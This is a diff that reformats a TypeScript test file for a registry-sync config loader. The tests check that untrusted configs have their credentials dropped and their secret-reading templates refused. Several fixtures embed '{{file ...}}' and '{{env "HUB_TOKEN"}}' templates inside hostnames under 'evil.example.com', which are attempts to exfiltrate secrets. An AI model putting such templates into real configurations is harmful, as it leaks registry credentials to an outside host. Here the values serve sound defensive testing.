@@ -36,7 +36,8 @@ const creds = [
   '    clientKey: x',
 ].join('\n');
 
-const syncText = (extra = '') => `version: 1\n${creds}\nsync:\n  - source: evil.example.com/app\n    target: registry.example.com/app\n    type: repository\n${extra}`;
+const syncText = (extra = '') =>
+  `version: 1\n${creds}\nsync:\n  - source: evil.example.com/app\n    target: registry.example.com/app\n    type: repository\n${extra}`;
 
 function assertRefused(err: unknown, what: RegExp): boolean {
   assert.ok(err instanceof ConfigError, String(err));
@@ -48,7 +49,11 @@ function assertRefused(err: unknown, what: RegExp): boolean {
 describe('a config under review', () => {
   it('keeps how a registry is reached but drops credentials and destinations, each with a warning at its key', () => {
     const c = loadSyncConfig({ text: syncText(), name: 'regsync.yml' }, ENV, { trust: UNDER_REVIEW });
-    assert.deepEqual(c.creds, [{ registry: 'evil.example.com', tls: 'disabled', reqPerSec: 5 }, { registry: 'registry.example.com' }, { registry: 'borrow.example.com' }]);
+    assert.deepEqual(c.creds, [
+      { registry: 'evil.example.com', tls: 'disabled', reqPerSec: 5 },
+      { registry: 'registry.example.com' },
+      { registry: 'borrow.example.com' },
+    ]);
     const refused = c.warnings.map((w) => `${w.line}: ${w.message.split(' refused: ')[0]}`);
     assert.deepEqual(refused, [
       '4: creds[0].user',
@@ -73,8 +78,14 @@ describe('a config under review', () => {
 
   it('refuses {{file}} and {{env}} anywhere else, naming the field', () => {
     const text = (source: string) => `version: 1\nsync:\n  - source: '${source}'\n    target: registry.example.com/app\n    type: repository\n`;
-    assert.throws(() => loadSyncConfig({ text: text(`{{file "${secretFile}"}}.evil.example.com/x`), name: 'regsync.yml' }, ENV, { trust: UNDER_REVIEW }), (e) => assertRefused(e, /regsync\.yml:3:\d+: template in sync\[0\]\.source failed .*file ".*config\.json"/));
-    assert.throws(() => loadSyncConfig({ text: text('{{env "HUB_TOKEN"}}.evil.example.com/x'), name: 'regsync.yml' }, ENV, { trust: UNDER_REVIEW }), (e) => assertRefused(e, /env "HUB_TOKEN"/));
+    assert.throws(
+      () => loadSyncConfig({ text: text(`{{file "${secretFile}"}}.evil.example.com/x`), name: 'regsync.yml' }, ENV, { trust: UNDER_REVIEW }),
+      (e) => assertRefused(e, /regsync\.yml:3:\d+: template in sync\[0\]\.source failed .*file ".*config\.json"/),
+    );
+    assert.throws(
+      () => loadSyncConfig({ text: text('{{env "HUB_TOKEN"}}.evil.example.com/x'), name: 'regsync.yml' }, ENV, { trust: UNDER_REVIEW }),
+      (e) => assertRefused(e, /env "HUB_TOKEN"/),
+    );
     assert.equal(loadSyncConfig({ text: text('{{env "MIRROR"}}/x'), name: 'regsync.yml' }, ENV).sync[0]!.source, 'mirror.example.com/x');
   });
 
@@ -82,11 +93,21 @@ describe('a config under review', () => {
     const text = (source: string) => `version: 1\nsync:\n  - source: '${source}'\n    target: registry.example.com/app\n    type: repository\n`;
     const allowing: ConfigTrust = { kind: 'untrusted', allowEnv: ['MIRROR'] };
     assert.equal(loadSyncConfig({ text: text('{{env "MIRROR"}}/x'), name: 'regsync.yml' }, ENV, { trust: allowing }).sync[0]!.source, 'mirror.example.com/x');
-    assert.throws(() => loadSyncConfig({ text: text('{{env "HUB_TOKEN"}}/x'), name: 'regsync.yml' }, ENV, { trust: allowing }), (e) => assertRefused(e, /env "HUB_TOKEN"/));
+    assert.throws(
+      () => loadSyncConfig({ text: text('{{env "HUB_TOKEN"}}/x'), name: 'regsync.yml' }, ENV, { trust: allowing }),
+      (e) => assertRefused(e, /env "HUB_TOKEN"/),
+    );
   });
 
   it('a backup template run later reads nothing either', () => {
-    const c = loadSyncConfig({ text: `version: 1\nsync:\n  - source: a.example.com/app\n    target: b.example.com/app\n    type: repository\n    backup: '{{env "HUB_TOKEN"}}'\n`, name: 'regsync.yml' }, ENV, { trust: UNDER_REVIEW });
+    const c = loadSyncConfig(
+      {
+        text: `version: 1\nsync:\n  - source: a.example.com/app\n    target: b.example.com/app\n    type: repository\n    backup: '{{env "HUB_TOKEN"}}'\n`,
+        name: 'regsync.yml',
+      },
+      ENV,
+      { trust: UNDER_REVIEW },
+    );
     const ref = { Reference: 'b.example.com/app:1', Registry: 'b.example.com', Repository: 'app', Tag: '1', Digest: '' };
     assert.throws(() => expandBackup(c.sync[0]!, ref), /env "HUB_TOKEN" is refused/);
   });
@@ -100,7 +121,9 @@ describe('a config under review', () => {
 
 describe('the policy-check workflow template', () => {
   it('reads every policy it checks as under review', () => {
-    const workflow = parse(readFileSync('.github/workflow-templates/policy-check.yml', 'utf8')) as { jobs: Record<string, { steps: Array<{ uses?: string; with?: Record<string, unknown> }> }> };
+    const workflow = parse(readFileSync('.github/workflow-templates/policy-check.yml', 'utf8')) as {
+      jobs: Record<string, { steps: Array<{ uses?: string; with?: Record<string, unknown> }> }>;
+    };
     const regkitSteps = Object.values(workflow.jobs).flatMap((j) => j.steps.filter((s) => /^regkit\/regkit\/actions\/(sync|prune)@/.test(s.uses ?? '')));
     assert.equal(regkitSteps.length, 2);
     for (const step of regkitSteps) assert.equal(step.with?.['untrusted-config'], true, step.uses);
